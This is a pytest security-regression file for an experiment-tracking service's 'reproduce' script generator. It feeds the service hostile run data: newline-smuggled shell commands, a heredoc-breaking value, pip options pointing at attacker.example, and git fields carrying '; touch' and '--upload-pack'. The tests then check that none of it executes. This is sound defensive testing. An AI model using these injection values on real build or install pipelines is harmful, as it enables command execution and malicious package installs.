"""Reproduce scripts stay safe whatever a run's creator recorded (security review H2, L1, L2).

The script is run by someone else, so no recorded text may reach an executable line, and nothing
from the run may reach pip as an option. Old rows, recorded before input was checked, may hold
anything: they are rendered with the bad parts left out.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import update

from kiln.app import kiln_state
from kiln.core.db import Database
from kiln.tracking.models import Run
from tests.api import error_of
from tests.tracking.api import API, create_run, get_run, log_batch
from tests.tracking.script_sandbox import run_script, syntax_errors

# The review's reproduction: newlines that end a comment, a line that ends the heredoc early, and
# a package "name" that is a pip option.
HOSTILE_NAME = "baseline)\necho INJECTED-VIA-RUN-NAME >> pwn-marker\n#"
HOSTILE_VERSION = (
    "1.26.4\nREQUIREMENTS\necho INJECTED-VIA-PACKAGE-VERSION >> pwn-marker\ncat <<'REQUIREMENTS'"
)
HOSTILE_PACKAGE = "--extra-index-url https://attacker.example/simple\nevilpkg"
HOSTILE_PARAM = "0.1\necho INJECTED-VIA-PARAM >> pwn-marker"
HOSTILE_ENVIRONMENT: dict[str, Any] = {
    "python": "3.11\necho INJECTED-VIA-PYTHON >> pwn-marker",
    "platform": "Linux\r\necho INJECTED-VIA-PLATFORM >> pwn-marker",
    "command": ["train.py", "--lr", "0.1\necho INJECTED-VIA-COMMAND >> pwn-marker"],
    "packages": {
        "numpy": HOSTILE_VERSION,
        HOSTILE_PACKAGE: "1.0",
        "--index-url=https://attacker.example/simple/x": "1",
        "pandas": "2.2.3",
    },
}
PIN = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9.!+_-]+$")


def hostile_run(client: TestClient) -> str:
    run = create_run(client, name=HOSTILE_NAME, environment=HOSTILE_ENVIRONMENT)
    assert log_batch(client, run["id"], params={"lr": HOSTILE_PARAM}).status_code == 200
    return str(run["id"])


def reproduce(client: TestClient, run_id: str) -> dict[str, Any]:
    response = client.get(f"{API}/runs/{run_id}/reproduce")
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def assert_harmless(script_text: str, tmp_path: Path) -> None:
    """Parse it, run it with stubbed tools: nothing injected runs, pip gets only plain pins."""
    script = tmp_path / "reproduce.sh"
    script.write_text(script_text)
    assert syntax_errors(script) == ""

    ran = run_script(script, tmp_path / "sandbox")

    assert ran.returncode == 0, ran.stderr
    assert not (ran.folder / "pwn-marker").exists()
    pip_calls = [call[1:] for call in ran.calls if call[0] == "pip" or call[1:3] == ["-m", "pip"]]
    assert pip_calls == [["-m", "pip", "install", "-r", "/dev/stdin"]]
    requirement_lines = [line for line in ran.pip_input.splitlines() if not line.startswith("#")]
    assert requirement_lines == ["pandas==2.2.3"]
    assert all(PIN.match(line) for line in requirement_lines)


class TestHostileRunData:
    def test_the_script_runs_nothing_it_was_not_written_to_run(
        self, client: TestClient, tmp_path: Path
    ) -> None:
        run_id = hostile_run(client)

        body = reproduce(client, run_id)

        assert_harmless(body["script"], tmp_path)
        # A command with a newline in an argument is shown, escaped, not run.
        assert (
            "# The recorded command holds control or invisible characters, so it is not run:"
            in body["script"]
        )

    def test_every_comment_line_stays_one_line(self, client: TestClient) -> None:
        script = reproduce(client, hostile_run(client))["script"]

        for line in script.splitlines():
            assert "INJECTED" not in line or line.startswith("#"), line
        assert "# Reproduce Kiln run" in script
        assert "baseline)\\necho INJECTED-VIA-RUN-NAME >> pwn-marker\\n#" in script  # shown escaped
        assert "#   lr = 0.1\\necho INJECTED-VIA-PARAM >> pwn-marker" in script

    def test_invalid_pins_are_dropped_when_recorded_with_a_warning(self, client: TestClient) -> None:
        run_id = hostile_run(client)

        environment = get_run(client, run_id)["environment"]

        assert environment["packages"] == {"pandas": "2.2.3"}
        warnings = "\n".join(environment["warnings"])
        assert 'package numpy skipped: version "1.26.4\\nREQUIREMENTS' in warnings
        assert "'--extra-index-url https://attacker.example/simple\\nevilpkg'" in warnings
        assert "not a PEP 508 distribution name" in warnings

    def test_the_requirements_file_holds_only_comments_and_pins(self, client: TestClient) -> None:
        requirements = reproduce(client, hostile_run(client))["requirements"]

        lines = requirements.splitlines()
        assert [line for line in lines if not line.startswith("#")] == ["pandas==2.2.3"]
        assert not any(line.lstrip().startswith("-") for line in lines)

    def test_a_hostile_git_record_is_left_to_the_reader(self, client: TestClient, tmp_path: Path) -> None:
        environment = {
            "git": {"commit": "abc1234; touch pwn-marker", "remote": "--upload-pack=touch pwn-marker"},
            "packages": {"pandas": "2.2.3"},
        }
        run = create_run(client, environment=environment)

        script = reproduce(client, run["id"])["script"]

        assert "git clone" not in script
        assert "git checkout" not in script
        assert "# The recorded git remote '--upload-pack=touch pwn-marker' is not a plain URL" in script
        assert_harmless(script, tmp_path)


def store_environment(app: FastAPI, run_id: str, environment: Any) -> None:
    """What a database written before these checks may hold: the environment as any client sent it."""
    db: Database = kiln_state(app).db
    with db.unit_of_work() as session:
        session.execute(update(Run).where(Run.id == run_id).values(environment=environment))


class TestOldRows:
    def test_unsafe_pins_in_an_old_row_are_skipped_with_a_comment(
        self, client: TestClient, app: FastAPI, tmp_path: Path
    ) -> None:
        run_id = hostile_run(client)
        store_environment(app, run_id, HOSTILE_ENVIRONMENT)

        body = reproduce(client, run_id)

        assert_harmless(body["script"], tmp_path)
        assert '# warning: package numpy skipped: version "1.26.4\\nREQUIREMENTS' in body["script"]
        assert "# warning: package '--index-url=https://attacker.example/simple/x' skipped" in body["script"]

    def test_a_malformed_environment_still_reproduces(self, client: TestClient, app: FastAPI) -> None:
        run = create_run(client)
        store_environment(app, run["id"], {"command": 5, "git": "notadict", "packages": [1, 2]})

        body = reproduce(client, run["id"])

        assert (body["command"], body["git"], body["packages"]) == ([], {}, {})
        assert body["script"].startswith("#!/bin/sh\n")


class TestEnvironmentShapes:
    def test_known_keys_with_the_wrong_shape_are_refused(self, client: TestClient) -> None:
        experiment = create_run(client)["experiment_id"]
        for environment, named in [
            ({"command": 5}, "environment.command must be a list of strings"),
            ({"git": "notadict"}, "environment.git must be an object"),
            ({"packages": [1, 2]}, "environment.packages must be an object of name to version strings"),
            ({"python": 3.11}, "environment.python must be a string"),
        ]:
            response = client.post(
                f"{API}/runs", json={"experiment_id": experiment, "environment": environment}
            )

            assert response.status_code == 422, response.text
            assert named in response.text

    def test_a_deeply_nested_environment_is_422(self, client: TestClient) -> None:
        experiment = create_run(client)["experiment_id"]
        nested: Any = "leaf"
        for _ in range(900):
            nested = {"n": nested}

        response = client.post(
            f"{API}/runs", json={"experiment_id": experiment, "environment": {"deep": nested}}
        )

        assert response.status_code == 422
        assert "nested deeper than 32 levels" in error_of(response)["message"]
